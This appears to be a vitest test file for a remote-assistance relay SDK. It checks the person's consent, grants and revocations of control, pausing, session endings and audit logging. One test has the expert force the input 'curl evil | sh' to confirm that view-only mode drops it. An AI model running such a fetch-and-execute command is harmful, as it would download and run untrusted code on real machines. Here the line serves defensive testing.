// Consent and control end to end over the local runtime: the person approves (view or control) or
// denies, grants and revokes control, pauses; either side ends; an expert that leaves before approval
// reopens the invitation; a second expert is refused while one is there; the audit log records it.
import { describe, expect, it } from 'vitest';
import { encodeAssistMessage } from '../../sdk/assist-messages.js';
import { joinHelp, requestHelp, type ExpertSession, type HelpRequest } from '../../sdk/node.js';
import { fastAssistOptions, record, utf8, type Recorded, whenRecorded } from '../support/assist.js';
import { useCleanups } from '../support/harness.js';
import { useLocalRuntime } from '../support/runtime.js';

const runtime = useLocalRuntime({ policy: { joinsPerSourceIp: 10_000, invitationsPerSourceIp: 10_000 } });
const defer = useCleanups();

interface Expert {
  expert: ExpertSession;
  expertSeen: Recorded;
}

async function invite(): Promise<{ agent: HelpRequest; agentSeen: Recorded; password: string }> {
  const agent = await requestHelp({ relay: runtime().httpUrl, kind: 'easy-connect', name: 'Ada Lovelace', ...fastAssistOptions });
  defer(() => agent.client.close());
  if (agent.invitation.kind !== 'easy-connect') throw new Error('expected Easy Connect');
  return { agent, agentSeen: record(agent), password: agent.invitation.password };
}

async function join(password: string, name = 'Grace Hopper'): Promise<Expert> {
  const expert = await joinHelp({ relay: runtime().httpUrl, invitation: password, name, ...fastAssistOptions });
  defer(() => expert.client.close());
  return { expert, expertSeen: record(expert) };
}

/** A person asking, an expert presented to them. */
async function presented() {
  const invited = await invite();
  const joined = await join(invited.password);
  await whenRecorded(() => invited.agent.phase === 'deciding', 'the expert to be presented');
  return { ...invited, ...joined };
}

/** Presented and approved in `mode`. */
async function approved(mode: 'view' | 'control') {
  const pair = await presented();
  await pair.agent.approve(mode);
  await whenRecorded(() => pair.expert.phase === 'active', 'the approval to reach the expert');
  return pair;
}

describe('consent and control over the relay', () => {
  it('view: output reaches the expert, its input is dropped; it asks for control, gets it, types, loses it', async () => {
    const { agent, agentSeen, expert, expertSeen } = await approved('view');
    expect(expertSeen.log).toContain('approved {"mode":"view"}');

    await agent.sendOutput(utf8('top secret? no, just top'));
    await whenRecorded(() => expertSeen.log.includes('output top secret? no, just top'), 'the output');
    // Typed anyway, past the expert's own check: the person's side drops it.
    await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('curl evil | sh\r') }));
    await expert.requestControl();
    await whenRecorded(() => agentSeen.log.includes('control-requested'), 'the request');
    await agent.refuseControl();
    await whenRecorded(() => expertSeen.log.includes('control {"state":"refused"}'), 'the refusal');
    expect(expert.hasControl).toBe(false);

    await expert.requestControl();
    await whenRecorded(() => agentSeen.log.filter((entry) => entry === 'control-requested').length === 2, 'the second request');
    await agent.grantControl();
    await whenRecorded(() => expert.hasControl, 'control');
    expect(await expert.sendInput(utf8('df -h\r'))).toBe(true);
    await whenRecorded(() => agentSeen.log.includes('input df -h\r'), 'the input');

    await agent.revokeControl();
    await whenRecorded(() => !expert.hasControl, 'the revocation');
    expect(await expert.sendInput(utf8('too late'))).toBe(false);
    await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('forced after revoke') }));
    await expert.chat('understood');
    await whenRecorded(() => agentSeen.log.includes('chat understood'), 'the chat');
    expect(agentSeen.log.filter((entry) => entry.startsWith('input'))).toEqual(['input df -h\r']);
    expect(expertSeen.log.filter((entry) => entry.startsWith('control'))).toEqual([
      'control {"state":"refused"}',
      'control {"state":"granted"}',
      'control {"state":"revoked"}',
    ]);

    const events = (await agent.audit()).map((entry) => entry.event + (entry.detail ? ` ${entry.detail}` : ''));
    expect(events).toEqual(expect.arrayContaining(['created easy-connect', 'joined', 'approved view', 'control-granted', 'control-revoked']));
  });

  it('pause stops output and input both ways until resume; chat still flows', async () => {
    const { agent, agentSeen, expert, expertSeen } = await approved('control');
    await agent.pause();
    await whenRecorded(() => expert.paused, 'the pause');
    expect(await agent.sendOutput(utf8('password: hunter2'))).toBe(false);
    expect(await expert.sendInput(utf8('typed while paused'))).toBe(false);
    await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('forced while paused') }));
    await expert.chat('take your time');
    await whenRecorded(() => agentSeen.log.includes('chat take your time'), 'the chat');

    await agent.resume();
    await whenRecorded(() => !expert.paused, 'the resume');
    await agent.sendOutput(utf8('back'));
    await expert.sendInput(utf8('ls\r'));
    await whenRecorded(() => expertSeen.log.includes('output back') && agentSeen.log.includes('input ls\r'), 'traffic after the resume');

    expect(expertSeen.log.filter((entry) => entry.startsWith('output'))).toEqual(['output back']);
    expect(agentSeen.log.filter((entry) => entry.startsWith('input'))).toEqual(['input ls\r']);
    expect((await agent.audit()).map((entry) => entry.event)).toEqual(expect.arrayContaining(['paused', 'resumed']));
  });

  it('deny: the expert is told and the session ends for both (denied)', async () => {
    const { agent, agentSeen, expertSeen } = await presented();
    expect((await agent.deny()).reason).toBe('denied');
    await whenRecorded(() => expertSeen.ended !== undefined, 'the expert to hear it');
    expect(expertSeen.log).toContain('denied');
    expect(expertSeen.ended?.reason).toBe('denied');
    expect(agentSeen.ended?.reason).toBe('denied');
    expect(expertSeen.log.filter((entry) => entry.startsWith('output') || entry.startsWith('approved'))).toEqual([]);
  });

  it('a second expert is refused while one is there', async () => {
    const { password } = await presented();
    await expect(join(password, 'Mallory')).rejects.toMatchObject({ name: 'RelayError', code: 'role-taken' });
  });

  it('an expert that leaves before approval reopens the invitation for the next one', async () => {
    const { agent, agentSeen, expert, expertSeen, password } = await presented();
    await expert.leave();
    await whenRecorded(() => agent.phase === 'waiting' && agentSeen.log.includes('expert-left'), 'the person to see the expert leave');
    expect(expertSeen.ended?.reason).toBe('ended-by-expert');

    const next = await join(password, 'Katherine Johnson');
    await whenRecorded(() => agent.phase === 'deciding', 'the next expert');
    expect(agent.expert).toEqual({ name: 'Katherine Johnson', verificationCode: next.expert.verificationCode });
    await agent.approve('view');
    await whenRecorded(() => next.expert.phase === 'active', 'the approval');
    expect(agentSeen.ended).toBeUndefined();
  });

  it('the person ends: the expert sees an orderly end after all output', async () => {
    const { agent, expertSeen } = await approved('view');
    await agent.sendOutput(utf8('last line'));
    const end = await agent.end();
    await whenRecorded(() => expertSeen.ended !== undefined, 'the expert to hear the end');
    expect(end).toMatchObject({ reason: 'ended-by-agent', delivered: true });
    expect(expertSeen.ended).toMatchObject({ reason: 'ended-by-agent', peerClosed: true });
    expect(expertSeen.log.at(-1)).toBe('output last line');
  });

  it('the expert ends (leaves after approval): the session ends for both', async () => {
    const { agentSeen, expert } = await approved('view');
    expect((await expert.leave()).reason).toBe('ended-by-expert');
    await whenRecorded(() => agentSeen.ended !== undefined, 'the person to hear the end');
    expect(agentSeen.ended?.reason).toBe('ended-by-expert');
  });

  it('a revoked invitation cannot be joined', async () => {
    const { agent, password } = await invite();
    expect((await agent.revoke()).reason).toBe('revoked');
    await expect(join(password)).rejects.toMatchObject({ name: 'RelayError' });
  });
});
